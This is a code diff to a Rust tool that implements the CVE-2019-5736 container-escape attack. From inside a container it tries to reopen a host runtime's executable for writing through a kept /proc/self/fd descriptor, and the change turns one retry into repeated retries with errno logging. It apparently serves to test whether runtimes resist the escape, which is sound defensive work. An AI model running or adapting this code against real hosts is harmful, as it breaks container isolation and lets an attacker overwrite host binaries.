@@ -1,15 +1,15 @@
 //! `overwrite-exe FIFO STOP`: the CVE-2019-5736 attacker. From inside a
 //! container it watches for every new process (a runtime `exec` shows up
 //! there before it runs the user's command), grabs `/proc/<pid>/exe`, tries
-//! to open it for writing at once and again, through the kept `O_PATH`
-//! descriptor and `/proc/self/fd/N`, after the process has exited (when a
-//! host binary would no longer be busy). A process run as `/proc/self/exe ...
+//! to open it for writing at once, and again and again through the kept
+//! `O_PATH` descriptor and `/proc/self/fd/N`, until told to stop (by then
+//! no runtime process keeps a host binary busy). A process run as `/proc/self/exe ...
 //! --log FIFO` is held up by FIFO (the runtime opening FIFO as its `--log` blocks
 //! until a reader comes), so that one is always caught: the attacker opens
 //! FIFO for reading only once it holds that process's executable. It stops
 //! when the file STOP exists.
 
-use std::collections::BTreeMap;
+use std::collections::{BTreeMap, BTreeSet};
 use std::fs;
 use std::os::fd::{AsRawFd, OwnedFd};
 use std::path::Path;
@@ -31,10 +31,11 @@ struct Victim {
     path_fd: Option<OwnedFd>,
     path_errno: Option<i32>,
     open_write_errno: Option<i32>,
-    reopen_errno: Option<i32>,
+    reopen_errnos: BTreeSet<i32>,
     write_errno: Option<i32>,
     wrote: bool,
-    retried_after_exit: bool,
+    retries: u64,
+    final_errno: Option<i32>,
 }
 
 impl Victim {
@@ -46,10 +47,11 @@ impl Victim {
             "path_fd": self.path_fd.is_some(),
             "path_errno": self.path_errno,
             "open_write_errno": self.open_write_errno,
-            "reopen_errno": self.reopen_errno,
+            "reopen_errnos": self.reopen_errnos,
             "write_errno": self.write_errno,
             "wrote": self.wrote,
-            "retried_after_exit": self.retried_after_exit,
+            "retries": self.retries,
+            "final_errno": self.final_errno,
         })
     }
 }
@@ -111,32 +113,35 @@ fn watch(pid: i32, victims: &mut BTreeMap<(i32, String), Victim>, me: i32) {
             path_fd,
             path_errno,
             open_write_errno,
-            reopen_errno: None,
+            reopen_errnos: BTreeSet::new(),
             write_errno,
             wrote,
-            retried_after_exit: false,
+            retries: 0,
+            final_errno: None,
         },
     );
 }
 
-/// Retries the write through `/proc/self/fd/N` for every caught process
-/// that has exited since.
-fn retry_exited(victims: &mut BTreeMap<(i32, String), Victim>, force: bool) {
-    for ((pid, _), v) in victims.iter_mut() {
-        if v.retried_after_exit || (!force && Path::new(&format!("/proc/{pid}")).exists()) {
+/// Tries the write again, through `/proc/self/fd/N` on the kept `O_PATH`
+/// descriptor, for every caught executable: each round (while a runtime
+/// still runs it, `ETXTBSY` is expected) and a last time when told to stop,
+/// when no runtime process is left to keep it busy.
+fn retry(victims: &mut BTreeMap<(i32, String), Victim>, last: bool) {
+    for v in victims.values_mut() {
+        let Some(fd) = &v.path_fd else { continue };
+        if v.wrote {
             continue;
         }
-        let Some(fd) = &v.path_fd else {
-            v.retried_after_exit = true;
-            continue;
-        };
         let (open_errno, write_errno) = try_write(&format!("/proc/self/fd/{}", fd.as_raw_fd()));
-        v.reopen_errno = open_errno;
+        v.retries += 1;
+        v.reopen_errnos.extend(open_errno);
         if open_errno.is_none() {
             v.write_errno = write_errno;
             v.wrote |= write_errno.is_none();
         }
-        v.retried_after_exit = true;
+        if last {
+            v.final_errno = open_errno.or(write_errno);
+        }
     }
 }
 
@@ -175,7 +180,7 @@ pub fn overwrite_exe(fifo: &str, stop: &str) -> Outcome {
             let mut buf = [0u8; 4096];
             while matches!(rustix::io::read(r, &mut buf), Ok(n) if n > 0) {}
         }
-        retry_exited(&mut victims, stopping);
+        retry(&mut victims, stopping);
         if stopping {
             break;
         }
